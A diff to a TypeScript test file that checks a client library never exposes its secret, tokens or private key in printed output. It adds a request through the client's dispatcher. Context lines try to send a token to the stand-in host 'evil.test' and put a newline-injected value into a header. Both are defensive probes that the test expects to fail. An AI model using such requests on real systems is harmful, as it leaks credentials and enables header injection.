@@ -1,6 +1,7 @@
 /** A canary: the client secret, the tokens and the private key are in nothing that the client shows. */
 import { inspect } from 'node:util';
 import { clientSecret as authenticateBySecret, Secret } from '@countersign/core';
+import { request } from 'undici';
 import { expect, it } from 'vitest';
 import {
   audience,
@@ -85,6 +86,9 @@ async function collect(): Promise<{ readonly texts: string[]; readonly secrets: 
     const inventory = client({ baseUrl: service.origin, audience, credentials, tls, clock, logger });
     const outcome = await inventory.fetch('/').catch((error: unknown) => error);
     texts.push(printed(outcome), printed(inventory), printed(credentials), printed(tls));
+    const dispatcher = inventory.dispatcher();
+    texts.push(printed(await request(`${service.origin}/`, { dispatcher }).catch((error: unknown) => error)));
+    texts.push(printed(dispatcher));
     await inventory.fetch('/').catch(note);
     texts.push(printed(await faultOf(inventory.fetch(`//evil.test/${token}`))));
     texts.push(printed(await faultOf(inventory.fetch('/', { headers: { 'x-a': `${token}\n` + 'b' } }))));
